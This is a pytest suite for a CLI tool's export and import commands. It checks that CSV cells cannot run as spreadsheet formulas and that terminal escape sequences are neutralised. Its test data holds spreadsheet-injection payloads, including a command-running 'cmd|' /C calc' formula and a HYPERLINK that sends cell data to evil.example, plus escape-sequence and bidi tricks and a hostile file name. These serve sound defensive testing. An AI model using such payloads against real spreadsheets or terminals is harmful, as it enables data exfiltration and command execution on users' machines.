"""Export and import as an operator runs them: CSV that spreadsheets cannot run, exact JSON
Lines, progress bars on a terminal only, and one-line usage errors."""

from __future__ import annotations

import csv
import fcntl
import io
import json
import os
import pty
import re
import select
import sqlite3
import struct
import subprocess
import sys
import termios
import threading
import time
from pathlib import Path
from typing import Any

import pytest

from tui.cli import main

HOSTILE = [
    {
        "source": "@SUM(1+1)*cmd|' /C calc'!A0",
        "external_id": "1",
        "author": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
        "url": "+cmd|' /C calc'!A0",
        "text": "-2+3",
        "created_at": "2026-11-20T10:00:00Z",
    },
    {"external_id": "2", "author": "\t=1+1", "text": "\r=1+1", "url": "  =1+1"},
    {"external_id": "3", "author": "  @SUM(A1)", "text": "nul \x00 inside\x00", "url": None},
    {"external_id": "4", "author": "ann", "text": 'a;=1+2",=3+4\n=5', "url": "https://ok.example"},
    {"external_id": "5", "author": "\uff1dfull width", "text": "terrible, awful service"},
]
FORMULA = ("=", "+", "-", "@", "\uff1d")


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture
def hostile_db(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Path:
    source = tmp_path / "hostile.jsonl"
    source.write_text("".join(json.dumps(r) + "\n" for r in HOSTILE), encoding="utf-8")
    db = tmp_path / "m.db"
    code, _, err = run(capsys, "import", str(source), "--db", str(db))
    assert code == 0, err
    with sqlite3.connect(db) as conn:
        (mid,) = conn.execute("SELECT id FROM mentions WHERE external_id = '4'").fetchone()
    import asyncio

    from tui.store import Store

    async def tag() -> None:
        store = await Store.open(db, "tester")
        await store.add_tag(mid, "=cmd|' /C calc'!A0")
        await store.add_tag(mid, "billing")
        await store.close()

    asyncio.run(tag())
    return db


def test_csv_export_cannot_run_formulas(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, hostile_db: Path
) -> None:
    out = tmp_path / "out.csv"
    code, _, err = run(capsys, "export", "--db", str(hostile_db), "--format", "csv", "-o", str(out))
    assert code == 0 and "exported 5 mentions" in err
    data = out.read_bytes()
    assert b"\x00" not in data  # NUL bytes are replaced (by \u2400), never written
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    assert len(rows) == 5
    for row in rows:
        for key, cell in row.items():
            if key in ("id", "sentiment_compound"):  # numbers the export writes itself
                continue
            if cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in FORMULA:
                pytest.fail(f"{key} would run as a formula: {cell!r}")
    by_id = {row["external_id"]: row for row in rows}
    first = by_id["1"]
    assert first["author"] == "'" + HOSTILE[0]["author"]
    assert first["url"] == "'" + HOSTILE[0]["url"]
    assert first["text"] == "'-2+3"
    assert first["source"] == "'" + HOSTILE[0]["source"]
    assert by_id["2"]["author"] == "'\t=1+1"
    assert by_id["2"]["text"] == "'\n=1+1"  # a lone CR (which overwrites a line) is a break
    assert by_id["2"]["url"] == "'  =1+1"  # also after leading whitespace
    assert by_id["3"]["author"] == "'  @SUM(A1)"
    assert by_id["3"]["text"] == "nul \u2400 inside\u2400"
    assert by_id["4"]["tags"] == "'=cmd|' /c calc'!a0;billing"  # tags are normalized too
    assert by_id["4"]["text"] == HOSTILE[3]["text"]  # separators and quotes stay in one cell
    assert by_id["5"]["author"] == "'\uff1dfull width"
    assert by_id["5"]["text"] == "terrible, awful service"
    assert float(by_id["5"]["sentiment_compound"]) < 0  # a negative number is not prefixed
    # Every cell is quoted, so a ";" separator in another locale cannot split a cell.
    header = data.decode("utf-8").split("\r\n", 1)[0]
    assert header.startswith('"id","source",')
    assert header.endswith('"versions","assigned_to","notes"')
    assert ',"a;=1+2"",=3+4\n=5",' in data.decode("utf-8")


def test_the_csv_export_imported_back_changes_nothing(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, hostile_db: Path
) -> None:
    """The quote that keeps a spreadsheet from running a cell comes off again: no new
    mention, no edit (no earlier version), no new tag. A text the export neutralized (the NUL,
    which CSV cannot hold, the lone CR) is what its stored text exports as, so it is no edit
    either. A text that itself starts with a quote keeps it."""
    with sqlite3.connect(hostile_db) as conn:
        conn.execute("UPDATE mentions SET text = ? WHERE external_id = '5'", ("'quoted already",))

    def state() -> list[tuple]:
        with sqlite3.connect(hostile_db) as conn:
            return conn.execute(
                "SELECT m.source, m.external_id, m.author, m.url, m.text,"
                " (SELECT group_concat(tag, ';') FROM mention_tags t WHERE t.mention_id = m.id)"
                " FROM mentions m ORDER BY m.id"
            ).fetchall()

    before = state()
    out = tmp_path / "out.csv"
    assert run(capsys, "export", "--db", str(hostile_db), "--format", "csv", "-o", str(out))[0] == 0
    assert "''quoted already" in out.read_text(encoding="utf-8")
    code, _, err = run(capsys, "import", str(out), "--db", str(hostile_db))
    assert code == 0, err
    assert "imported 0 new mentions (5 already present: 0 updated with new text" in err
    assert state() == before
    with sqlite3.connect(hostile_db) as conn:
        (versions,) = conn.execute("SELECT count(*) FROM versions").fetchone()
    assert versions == 0


def test_a_quote_an_export_did_not_add_stays() -> None:
    """An export made before leading quotes were doubled wrote ``'Tis`` for ``'Tis``: only a
    quote ``csv_cell`` would have added comes off."""
    from tui.core.records import csv_cell, from_csv_cell

    for value in ("'Tis the season", "=1+2", "'=1+2", "''", "-", "  @x", "\t=1", "plain"):
        assert from_csv_cell(csv_cell(value)) == value
    assert from_csv_cell("'Tis the season") == "'Tis the season"  # not one csv_cell made


def test_jsonl_export_is_exact(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, hostile_db: Path
) -> None:
    out = tmp_path / "out.jsonl"
    assert run(capsys, "export", "--db", str(hostile_db), "-o", str(out))[0] == 0
    with sqlite3.connect(hostile_db) as conn:
        stored = {
            ext: (text, author, url, source)
            for ext, text, author, url, source in conn.execute(
                "SELECT external_id, text, author, url, source FROM mentions"
            )
        }
    records = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert len(records) == 5
    for record in records:
        ext = record["external_id"]
        assert (record["text"], record["author"], record["url"], record["source"]) == stored[ext]
    assert stored["3"][0] == "nul \x00 inside\x00" and stored["2"][0] == "\r=1+1"


def test_since_that_is_neither_form_names_both(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    code, out, err = run(capsys, "export", "--db", str(tmp_path / "m.db"), "--since", "banana")
    assert code == 2 and out == ""
    assert err.count("\n") == 1, err
    assert "--since 'banana'" in err
    assert "duration" in err and "7d" in err and "12h" in err  # the duration form
    assert "ISO 8601" in err and "2026-01-31T09:30:00Z" in err  # and the time form


# -- progress ---------------------------------------------------------------------------------


def _feed(path: Path, count: int) -> Path:
    lines = (
        json.dumps({"external_id": str(n), "text": f"parcel {n} is late again", "author": "a"})
        for n in range(count)
    )
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def _env() -> dict[str, str]:
    env = dict(os.environ, TERM="xterm-256color", COLUMNS="120", LINES="24")
    env.pop("NO_COLOR", None)
    return env


def test_piped_stderr_gets_only_the_summary(tmp_path: Path) -> None:
    feed = _feed(tmp_path / "in.jsonl", 700)
    db = str(tmp_path / "m.db")
    command = [sys.executable, "-m", "tui"]
    done = subprocess.run(
        [*command, "import", str(feed), "--db", db], capture_output=True, text=True, env=_env()
    )
    assert done.returncode == 0, done.stderr
    # Exactly the summary line: no bar, no control sequences.
    assert done.stderr.startswith("imported 700 new mentions") and done.stderr.count("\n") == 1
    assert "\x1b" not in done.stderr and "\r" not in done.stderr
    out = tmp_path / "out.jsonl"
    done = subprocess.run(
        [*command, "export", "--db", db, "-o", str(out)], capture_output=True, text=True, env=_env()
    )
    assert done.returncode == 0 and done.stderr == "exported 700 mentions\n"


def _on_terminal(
    args: list[str], *, stdout_too: bool = False, stdout: Any = subprocess.DEVNULL
) -> tuple[int, str]:
    """Run the command with stderr (and maybe stdout) on a pseudo-terminal, stdout to
    ``stdout`` otherwise; (code, what the terminal received)."""
    master, slave = pty.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 120, 0, 0))
    process = subprocess.Popen(
        [sys.executable, "-m", "tui", *args],
        stdin=subprocess.DEVNULL,
        stdout=slave if stdout_too else stdout,
        stderr=slave,
        env=_env(),
    )
    os.close(slave)
    received = bytearray()
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        ready, _, _ = select.select([master], [], [], 0.2)
        if ready:
            try:
                chunk = os.read(master, 65536)
            except OSError:  # EIO: the other side is closed
                break
            if not chunk:
                break
            received.extend(chunk)
        elif process.poll() is not None:
            break
    os.close(master)
    return process.wait(timeout=30), received.decode("utf-8", "replace")


def test_a_terminal_shows_a_bar_with_count_and_rate(tmp_path: Path) -> None:
    feed = _feed(tmp_path / "in.jsonl", 1200)
    db = str(tmp_path / "m.db")
    code, shown = _on_terminal(["import", str(feed), "--db", db])
    assert code == 0, shown
    assert "importing" in shown and "1,200/1,200 mentions" in shown, shown
    assert re.search(r"\d[\d,]*/s", shown), shown
    assert "imported 1200 new mentions" in shown  # the summary stays
    code, shown = _on_terminal(["export", "--db", db, "-o", str(tmp_path / "out.jsonl")])
    assert code == 0 and "exporting" in shown and "1,200/1,200 mentions" in shown, shown
    assert re.search(r"\d[\d,]*/s", shown), shown
    assert shown.rstrip().endswith("exported 1200 mentions")


def test_no_bar_over_data_written_to_the_same_terminal(tmp_path: Path) -> None:
    db = str(tmp_path / "m.db")
    assert _on_terminal(["import", str(_feed(tmp_path / "in.jsonl", 3)), "--db", db])[0] == 0
    code, shown = _on_terminal(["export", "--db", db], stdout_too=True)
    assert code == 0 and "exporting" not in shown and "/s" not in shown
    assert shown.count('"external_id"') == 3


def test_no_bar_over_data_piped_to_a_reader_that_may_print_it(tmp_path: Path) -> None:
    """``triage export | head`` on a terminal: the bar on stderr was drawn through the lines
    ``head`` printed, and left glued to the first record."""
    db = str(tmp_path / "m.db")
    assert _on_terminal(["import", str(_feed(tmp_path / "in.jsonl", 1200)), "--db", db])[0] == 0
    reader, writer = os.pipe()
    with open(reader, "rb") as piped:
        drained: list[bytes] = []
        drain = threading.Thread(target=lambda: drained.append(piped.read()))
        drain.start()
        with open(writer, "wb") as into:
            code, shown = _on_terminal(["export", "--db", db], stdout=into)
        drain.join(timeout=60)
    assert drained[0].count(b'"external_id"') == 1200
    assert code == 0 and "exporting" not in shown and "/s" not in shown, shown
    assert shown.strip() == "exported 1200 mentions"
    with (tmp_path / "out.jsonl").open("wb") as file:  # a file stays off screen: the bar shows
        code, shown = _on_terminal(["export", "--db", db], stdout=file)
    assert code == 0 and "exporting" in shown and "1,200/1,200 mentions" in shown, shown
    assert (tmp_path / "out.jsonl").read_text().count('"external_id"') == 1200


def test_a_hostile_file_name_stays_on_its_line_in_messages(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    path = tmp_path / "in\x1b]0;pwned\x07\nfake.jsonl"
    path.write_text('{"text": "fine"}\n{not json\n', encoding="utf-8")
    code, _, err = run(capsys, "import", str(path), "--db", str(tmp_path / "m.db"))
    assert code == 1
    problem, summary = err.splitlines()
    assert problem.startswith(f"{tmp_path}/in\u241b fake.jsonl:2: not valid JSON")
    assert "\x1b" not in err and summary.startswith("imported 1 new mentions")
    code, _, err = run(capsys, "import", str(tmp_path / "no\nsuch\x1b[2J"), "--db", "x.db")
    assert code == 2 and err.count("\n") == 1
    assert err.startswith(f"triage: cannot read {tmp_path}/no such\u241b: no such file;")


TERMINAL_HOSTILE = (
    "title\x1b]0;pwned\x07 clear\x1b[2J bell\x07 c1\x9b31m "
    "bidi \u202eevil\u202c zero\u200bwidth tag\U000e0041 end\r\n"
    "second line\n\tindented"
)


def test_csv_export_is_safe_on_a_terminal_and_imports_back_unchanged(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """Escape sequences, controls, bidi overrides and invisible characters never reach a
    terminal raw from a CSV export (as JSON Lines escapes them): in text cells they show as
    ␛ and control pictures or are removed, line breaks and tabs stay; the JSON cells (notes,
    history ...) escape them, so those stay exact. Imported into the database it came from,
    the export changes nothing; imported into another, the text is the neutralized one."""
    source = tmp_path / "in.jsonl"
    record = {"external_id": "t1", "author": "eve\x1b[31m\u202e", "text": TERMINAL_HOSTILE}
    source.write_text(json.dumps(record) + "\n", encoding="utf-8")
    db = tmp_path / "m.db"
    assert run(capsys, "import", str(source), "--db", str(db))[0] == 0
    import asyncio

    from tui.core.model import Filter
    from tui.store import Store

    note = "note \x1b]8;;http://evil.example\x07link\u202e"

    async def annotate() -> None:
        store = await Store.open(db, "tester")
        (mid,) = await store.mention_ids(Filter())
        await store.add_note(mid, note)
        await store.close()

    asyncio.run(annotate())
    code, out, _ = run(capsys, "export", "--db", str(db), "--format", "csv")
    assert code == 0
    for char in ("\x1b", "\x07", "\x9b", "\u202e", "\u202c", "\u200b", "\U000e0041"):
        assert char not in out, repr(char)
    (row,) = list(csv.DictReader(io.StringIO(out, newline="")))
    assert row["text"] == (
        "title\u241b clear\u241b bell\u2407 c1\u241b bidi evil zerowidth tag end\r\n"
        "second line\n\tindented"
    )
    assert row["author"] == "eve\u241b"
    (stored_note,) = json.loads(row["notes"])
    assert stored_note["text"] == note  # exact: JSON escapes the characters instead
    assert "\\u001b]8;;" in row["notes"] and "\\u202e" in row["notes"]

    # JSON Lines (and `who` and `report` as JSON) write them as \u escapes: the same values
    code, out_jsonl, _ = run(capsys, "export", "--db", str(db))
    assert code == 0
    for char in ("\x1b", "\x07", "\x9b", "\u202e", "\u202c", "\u200b", "\U000e0041"):
        assert char not in out_jsonl, repr(char)
    (exact,) = map(json.loads, out_jsonl.splitlines())
    assert exact["text"] == TERMINAL_HOSTILE and exact["author"] == record["author"]
    code, out_report, _ = run(capsys, "report", "--db", str(db), "--format", "json")
    assert code == 0 and "\u202e" not in out_report and "\x9b" not in out_report
    json.loads(out_report)

    exported = tmp_path / "out.csv"
    exported.write_text(out, encoding="utf-8", newline="")
    with sqlite3.connect(db) as conn:
        before = conn.execute("SELECT text, author FROM mentions").fetchall()
    code, _, err = run(capsys, "import", str(exported), "--db", str(db))
    assert code == 0 and "0 updated with new text, 1 unchanged" in err, err
    with sqlite3.connect(db) as conn:
        assert conn.execute("SELECT text, author FROM mentions").fetchall() == before
        assert conn.execute("SELECT count(*) FROM versions").fetchone() == (0,)

    other = tmp_path / "other.db"
    assert run(capsys, "import", str(exported), "--db", str(other))[0] == 0
    with sqlite3.connect(other) as conn:
        assert conn.execute("SELECT text FROM mentions").fetchone() == (row["text"],)
        (notes,) = conn.execute("SELECT count(*) FROM notes WHERE text = ?", (note,)).fetchone()
    assert notes == 1
